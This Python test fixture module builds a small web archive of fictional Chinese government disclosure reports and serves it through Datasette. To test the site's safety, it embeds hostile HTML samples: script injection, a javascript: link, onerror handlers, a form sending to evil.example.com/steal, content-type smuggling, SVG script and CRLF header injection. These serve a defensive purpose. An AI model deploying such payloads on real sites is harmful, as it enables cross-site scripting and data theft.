"""A small archive of organs that do not exist: WARC files, a catalogue, and the site upon them."""

from __future__ import annotations

import asyncio
import base64
import datetime as dt
import importlib
import importlib.util
import shutil
import sqlite3
from collections.abc import Callable, Iterator, Sequence
from contextlib import closing
from dataclasses import dataclass, replace
from pathlib import Path
from types import ModuleType
from typing import Any

import httpx
import pytest
from datasette.app import Datasette

from archive.catalogue import Catalogue
from archive.database import open_for_reading
from archive.exchange import CaptureContext, Exchange
from archive.export import export
from archive.warc_writer import WarcInfo, WarcSeries
from parsers import codes
from parsers.formats import read_document
from parsers.reading import (
    ApplicationRow,
    CellValue,
    DisclosureValue,
    Finding,
    Hints,
    IndicatorValue,
    Organ,
    ProceedingRow,
    Reading,
    Section,
    SourceTable,
    TableKind,
)

SITE_FOLDER = Path(__file__).resolve().parents[2] / "datasette"
HOST = "http://www.xinghe.gov.cn"
PAGE_2023 = f"{HOST}/art/2024/1/20/art_1_2023.html"
PIXEL = base64.b64decode(
    "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mP8z8BQDwAEhQGAhKmMIQAAAABJRU5ErkJggg=="
)
ORGAN = Organ(
    key="000000:星河区人民政府",
    name="云麓市星河区人民政府",
    printed="星河区人民政府",
    level="county",
    division_code=None,
)
BUREAU = Organ("000000:星河区教育局", "云麓市星河区教育局", "星河区教育局", "department", None)
EARLY, LATE = dt.datetime(2024, 1, 25, 8, 30, tzinfo=dt.UTC), dt.datetime(2024, 6, 3, 2, 15, tzinfo=dt.UTC)

OUTCOMES_2021 = [code.code for code in codes.OUTCOMES if code.code != "other"]
OUTCOMES_2019 = [code.code for code in codes.OUTCOMES if not code.code.startswith("other_")]
APPLICANTS = [code.code for code in codes.APPLICANTS]
RESULTS = [code.code for code in codes.PROCEEDING_RESULTS]
KINDS = [code.code for code in codes.PROCEEDING_KINDS]
DISCLOSURE_2021 = [
    ("20(1)", "regulations", ("issued", "repealed", "in_force"), ("0", "0", "0")),
    ("20(1)", "normative_documents", ("issued", "repealed", "in_force"), ("7", "2", "41")),
    ("20(5)", "licensing", ("decisions",), ("3861",)),
    ("20(6)", "penalties", ("decisions",), ("212",)),
    ("20(6)", "coercive_measures", ("decisions",), ("/",)),
    ("20(8)", "fees", ("amount",), ("251000元",)),
]
DISCLOSURE_2019 = [
    ("20(1)", "regulations", ("made", "published", "published_total"), ("0", "0", "0")),
    ("20(1)", "normative_documents", ("made", "published", "published_total"), ("5", "5", "30")),
    ("20(5)", "licensing", ("items_last_year", "items_change", "decisions"), ("120", "减8", "998")),
    ("20(6)", "penalties", ("items_last_year", "items_change", "decisions"), ("300", "0", "87")),
    ("20(8)", "fees", ("items_last_year", "items_change"), ("12", "-1")),
    ("20(9)", "procurement", ("projects", "amount"), ("44", "10203.5")),
]
Table = Sequence[Sequence[str]]


@dataclass(frozen=True)
class MadeReport:
    """A made-up report: its tables as printed, and what a reader should make of them."""

    organ: Organ
    year: int
    form: str
    received: int
    findings: tuple[Finding, ...] = ()
    status: str = "verified"
    in_force: str = "41"
    with_disclosure: bool = True
    indicators: tuple[tuple[str, str, str], ...] = ()

    @property
    def title(self) -> str:
        return f"{self.organ.name}{self.year}年政府信息公开工作年度报告"

    def tables(self) -> list[tuple[TableKind, Table]]:
        if self.indicators:
            rows = [["统计指标", "单位", "统计数"], *([label, unit, value] for _, unit, value, label in self._labels())]
            return [("indicator", rows)]
        disclosed = DISCLOSURE_2021 if self.form == "2021" else DISCLOSURE_2019
        first = [[item, *values] + [""] * (3 - len(values)) for _, item, _, values in disclosed]
        if self.form == "2021":
            first[1][3] = self.in_force
        outcomes = OUTCOMES_2021 if self.form == "2021" else OUTCOMES_2019
        received = str(self.received)
        filled = {"received", "granted", "handled_total"}
        second = [
            [outcome, *((received, "0", "0", "0", "0", "0", received) if outcome in filled else ("0",) * 7)]
            for outcome in outcomes
        ]
        third = [RESULTS * 3, ["1", "0", "0", "0", "1", "0", "2", "0", "0", "2", "0", "0", "0", "0", "0"]]
        tables: list[tuple[TableKind, Table]] = [("application", second), ("proceeding", third)]
        return [("disclosure", first), *tables] if self.with_disclosure else tables

    def _labels(self) -> list[tuple[str, str, str, str]]:
        names = {code.code: code.zh for code in codes.INDICATORS}
        return [(code, unit, value, names.get(code, code)) for code, unit, value in self.indicators]

    def html(self, head: str = "", body: str = "") -> str:
        drawn = "".join(
            "<table border=1>"
            + "".join("<tr>" + "".join(f"<td>{cell}</td>" for cell in row) + "</tr>" for row in rows)
            + "</table>"
            for _, rows in self.tables()
        )
        return (
            f"<html><head><title>{self.title}</title>{head}</head><body><div class='head'>星河区政府网站</div>"
            f"<div id='zoom'><h1>{self.title}</h1><p>一、总体情况</p><p>{self.prose()}</p>{drawn}{body}</div>"
            "</body></html>"
        )

    def text(self) -> str:
        drawn = "\n\n下面是另一张表格。\n\n".join("\n".join(map("\t".join, rows)) for _, rows in self.tables())
        return f"{self.title}\n\n一、总体情况\n{self.prose()}\n\n{drawn}\n"

    def prose(self) -> str:
        return f"{self.year}年，我区新收政府信息公开申请{self.received}件，重点保护个人隐私，全年办结。"

    def reading(self, payload: bytes, url: str) -> Reading:
        document = read_document(payload, Hints(url=url))
        grids = [grid for grid in document.grids() if grid.row_count > 0]
        kinds = [kind for kind, _ in self.tables()]
        assert len(grids) == len(kinds), [grid.raw_rows() for grid in grids]
        tables = tuple(
            SourceTable(
                kind,
                self.form,
                grid.locator,
                tuple(map(tuple, grid.raw_rows())),
                tuple(map(tuple, grid.locator_rows())),
            )
            for kind, grid in zip(kinds, grids, strict=True)
        )
        at = {kind: index for index, kind in enumerate(kinds)}
        return Reading(
            is_report=True,
            reason="made up",
            title=self.title,
            year=self.year,
            organ=self.organ,
            published_on=dt.date(self.year + 1, 1, 20),
            form=self.form,
            status=self.status,  # type: ignore[arg-type]
            tables=tables,
            disclosure=self._disclosure(at.get("disclosure"), tables),
            application=self._application(at.get("application"), tables),
            proceeding=self._proceeding(at.get("proceeding"), tables),
            indicator=self._indicator(at.get("indicator"), tables),
            sections=(Section(1, "overview", "一、总体情况", self.prose()),),
            findings=self.findings,
            identities_checked=0 if self.indicators else 42,
            identities_failed=sum(1 for finding in self.findings if finding.severity == "error"),
        )

    def _disclosure(self, table: int | None, tables: Sequence[SourceTable]) -> tuple[DisclosureValue, ...]:
        if table is None:
            return ()
        disclosed = DISCLOSURE_2021 if self.form == "2021" else DISCLOSURE_2019
        return tuple(
            DisclosureValue(clause, item, measure, cell(tables[table], row, column), table)
            for row, (clause, item, measures, _) in enumerate(disclosed)
            for column, measure in enumerate(measures, 1)
        )

    def _application(self, table: int | None, tables: Sequence[SourceTable]) -> tuple[ApplicationRow, ...]:
        if table is None:
            return ()
        outcomes = OUTCOMES_2021 if self.form == "2021" else OUTCOMES_2019
        return tuple(
            ApplicationRow(
                outcome, {name: cell(tables[table], row, i) for i, name in enumerate(APPLICANTS, 1)}, table, row
            )
            for row, outcome in enumerate(outcomes)
        )

    def _proceeding(self, table: int | None, tables: Sequence[SourceTable]) -> tuple[ProceedingRow, ...]:
        if table is None:
            return ()
        return tuple(
            ProceedingRow(kind, {name: cell(tables[table], 1, 5 * k + i) for i, name in enumerate(RESULTS)}, table, 1)
            for k, kind in enumerate(KINDS)
        )

    def _indicator(self, table: int | None, tables: Sequence[SourceTable]) -> tuple[IndicatorValue, ...]:
        if table is None:
            return ()
        return tuple(
            IndicatorValue(code, label, unit, cell(tables[table], row, 2), table)
            for row, (code, unit, _, label) in enumerate(self._labels(), 1)
        )


def cell(table: SourceTable, row: int, column: int) -> CellValue:
    """A figure of a made table: digits, `减8`, `251000元` in 万元; `/` is blank."""
    raw = table.grid[row][column]
    values: dict[str, Any] = {"/": None, "": None, "减8": -8, "251000元": 25.1}
    value = values[raw] if raw in values else float(raw) if "." in raw else int(raw)
    return CellValue(value, raw, row, column)


REPORT_2023 = MadeReport(
    ORGAN,
    2023,
    "2021",
    56,
    status="inconsistent",
    findings=(
        Finding(
            "row_sum",
            "error",
            "application.granted.total",
            "各类申请人之和与总计不符",
            "Row does not add up",
            "55",
            "56",
        ),
        Finding("blank_cell", "warning", "disclosure.coercive_measures.decisions", "空白单元格", "A blank cell"),
        Finding("unit_in_cell", "info", "disclosure.fees.amount", "单位写在单元格内", "A unit stands in the cell"),
        Finding("narrative_contradiction", "warning", "section.overview", "文字与表格不一致", "Prose contradicts"),
        Finding("year_conflict", "info", "report.year", "年份证据不一致", "Evidence for the year disagrees"),
    ),
)
REPORT_2022 = MadeReport(ORGAN, 2022, "2021", 48)
REPORT_2020 = MadeReport(ORGAN, 2020, "2019", 33)
BUREAU_2022 = MadeReport(
    BUREAU,
    2022,
    "2021",
    9,
    status="partial",
    with_disclosure=False,
    findings=(Finding("table_missing", "error", "disclosure", "缺少主动公开情况表", "Table 二 is missing"),),
)
BUREAU_2016 = MadeReport(
    BUREAU,
    2016,
    "2014",
    0,
    indicators=(("proactive_total", "条", "1302"), ("requests_received", "件", "14"), ("local", "次", "3")),
)

HOSTILE_HEAD = (
    "<link rel='stylesheet' href='/css/page.css'><link rel=stylesheet href='http://tracker.example.com/a.css'>"
    "<meta http-equiv='refresh' content='0;url=http://evil.example.com/'><base target='_top'>"
    "<script>document.title='pwned'; fetch('/-/actor.json')</script>"
)
HOSTILE_BODY = (
    "<p><img src='/img/logo.png' alt='徽标'><img src='http://tracker.example.com/pixel.gif' onerror='document.title=1'>"
    "<a id='js' href='javascript:document.title=1'>点</a><a id='file' href='/files/a.pdf'>附件</a>"
    "<a id='gone' href='/not/archived.html'>未存档</a></p>"
    "<form action='http://evil.example.com/steal'><input name=q><button>送</button></form>"
    "<svg><script>document.title='svg'</script></svg><iframe src='http://evil.example.com/'></iframe>"
)


@dataclass(frozen=True)
class MadeArchive:
    """Where the archive lies, and the captures' ids by a name."""

    folder: Path
    captures: dict[str, str]

    @property
    def database(self) -> Path:
        return self.folder / "nianbao.db"


def _answer(body: bytes, content_type: str, extra: str = "", status: str = "200 OK") -> bytes:
    head = f"HTTP/1.1 {status}\r\nContent-Type: {content_type}\r\nContent-Length: {len(body)}\r\n{extra}\r\n"
    return head.encode() + body


@pytest.fixture(scope="session")
def made_archive(tmp_path_factory: pytest.TempPathFactory) -> MadeArchive:
    """The archive, written and catalogued by the real rooms."""
    folder = tmp_path_factory.mktemp("nianbao-data")
    warc = folder / "warc"
    warc.mkdir()
    captures: dict[str, str] = {}
    readings: dict[str, tuple[MadeReport, bytes, str]] = {}

    with WarcSeries(warc, "made", WarcInfo("crawl-1", "tests"), max_size=1 << 30) as series:

        def keep(
            name: str,
            url: str,
            answer: bytes,
            when: dt.datetime = EARLY,
            role: str = "page",
            made: MadeReport | None = None,
            payload: bytes = b"",
        ) -> None:
            host = url.split("/")[2]
            sent = f"GET {url} HTTP/1.1\r\nHost: {host}\r\n\r\n".encode()
            exchange = Exchange(url, when, sent, answer, ip="127.0.0.1")
            context = CaptureContext("crawl-1", role, role, via_url=f"{HOST}/")  # type: ignore[arg-type]
            captures[name] = series.write_exchange(exchange, context).record_id
            if made:
                readings[name] = (made, payload, url)

        before = REPORT_2023.html(HOSTILE_HEAD, HOSTILE_BODY).encode("gb18030")
        revised = replace(REPORT_2023, in_force="46")
        after = revised.html(HOSTILE_HEAD, HOSTILE_BODY).encode("gb18030")
        gbk = "text/html; charset=gb2312"
        cookie = "Set-Cookie: ds_actor=evil; Path=/\r\n"
        keep("2023", PAGE_2023, _answer(before, gbk, cookie), EARLY, "report", REPORT_2023, before)
        keep("2023-later", PAGE_2023, _answer(after, gbk), LATE, "report", revised, after)
        page_2020 = REPORT_2020.html().encode()
        keep("2020", f"{HOST}/2020.html", _answer(page_2020, "text/html"), EARLY, "report", REPORT_2020, page_2020)
        bureau = BUREAU_2022.html().encode()
        keep("bureau", f"{HOST}/jyj/2022.html", _answer(bureau, "text/html"), EARLY, "report", BUREAU_2022, bureau)
        old = BUREAU_2016.html().encode()
        keep("2016", f"{HOST}/jyj/2016.html", _answer(old, "text/html"), EARLY, "report", BUREAU_2016, old)
        css = b"@import 'http://evil.example.com/x.css'; body{background:url(/img/logo.png)} h1{color:rgb(1,2,3)}"
        keep("css", f"{HOST}/css/page.css", _answer(css, "text/css"))
        keep("logo", f"{HOST}/img/logo.png", _answer(PIXEL, "image/png"))
        smuggled = b"<html><script>document.title='pwned'</script><body>smuggled</body></html>"
        keep("html-as-png", f"{HOST}/a.png", _answer(smuggled, "image/png"))
        keep("html-as-text", f"{HOST}/a.txt", _answer(smuggled, "text/plain"))
        svg = b"<svg xmlns='http://www.w3.org/2000/svg'><script>document.title='pwned'</script></svg>"
        keep("svg", f"{HOST}/a.svg", _answer(svg, "image/svg+xml"))
        keep("pdf", f"{HOST}/files/a.pdf", _answer(made_pdf(), "application/pdf"))
        keep("redirect", f"{HOST}/old", _answer(b"", "text/html", f"Location: {PAGE_2023}\r\n", "302 Found"))
        keep("broken-gzip", f"{HOST}/z", _answer(b"not gzip", "text/html", "Content-Encoding: gzip\r\n"))
        crlf = 'Content-Disposition: attachment; filename="a\\r\\nX-Evil: 1.pdf"\r\n'
        keep("odd-name", f"{HOST}/x%0d%0aX-Evil:1", _answer(b"\x00\x01binary", "application/x-unknown", crlf))

        text = REPORT_2022.text().encode()
        context = CaptureContext("crawl-1", "report", "import")
        written = series.write_resource("file:///2022.txt", text, "text/plain", context, date=EARLY)
        captures["2022"] = written.record_id
        readings["2022"] = (REPORT_2022, text, "file:///2022.txt")

    with Catalogue(folder / "nianbao.db", warc) as catalogue:
        catalogue.index()
        for name, (made, payload, url) in readings.items():
            catalogue.store_reading(captures[name], made.reading(payload, url), "test")
        catalogue.assemble()
    return MadeArchive(folder, captures)


def made_pdf() -> bytes:
    """One empty A4 page, written by hand."""
    objects = (
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] >>",
    )
    out, places = b"%PDF-1.4\n", []
    for number, content in enumerate(objects, 1):
        places.append(len(out))
        out += b"%d 0 obj\n%s\nendobj\n" % (number, content)
    start = len(out)
    out += b"xref\n0 4\n0000000000 65535 f \n" + b"".join(b"%010d 00000 n \n" % place for place in places)
    return out + b"trailer << /Size 4 /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF" % start


@pytest.fixture
def site(made_archive: MadeArchive) -> Datasette:
    """The site on the made archive, as `serve` runs it."""
    return Datasette([], immutables=[str(made_archive.database)], config_dir=SITE_FOLDER)


@pytest.fixture
def get(site: Datasette) -> Iterator[Callable[..., httpx.Response]]:
    """`get(path)` answers as a browser without cookies would be answered."""
    with asyncio.Runner() as runner:

        def ask(path: str, **options: object) -> httpx.Response:
            return runner.run(site.client.get(path, **options))

        yield ask


@pytest.fixture
def report_ids(made_archive: MadeArchive) -> dict[str, str]:
    """The reports' keys by the name of the organ as printed and the year: `星河区人民政府2023`."""
    with sqlite3.connect(made_archive.database) as connection:
        return {name: key for key, name in connection.execute("SELECT id, organ_name || year FROM report")}


@pytest.fixture(scope="session")
def pages() -> Callable[[str], ModuleType]:
    """`pages("form_layout")` is that module of the site's pages."""
    path = SITE_FOLDER / "plugins" / "nianbao_site.py"
    spec = importlib.util.spec_from_file_location("nianbao_site_plugin", path)
    assert spec and spec.loader
    spec.loader.exec_module(importlib.util.module_from_spec(spec))
    return lambda name: importlib.import_module(f"nianbao_pages.{name}")


@pytest.fixture
def captures(made_archive: MadeArchive) -> dict[str, str]:
    """The captures' keys by the names that `made_archive` gives them."""
    return made_archive.captures


@pytest.fixture
def snapshot(made_archive: MadeArchive) -> Iterator[Path]:
    """A data package beside the database, as `nianbao export` writes it."""
    folder = made_archive.folder / "snapshots" / "2024-06"
    folder.parent.mkdir(exist_ok=True)
    with closing(open_for_reading(made_archive.database)) as connection:
        export(connection, folder, version="0.0")
    yield folder
    shutil.rmtree(folder.parent)
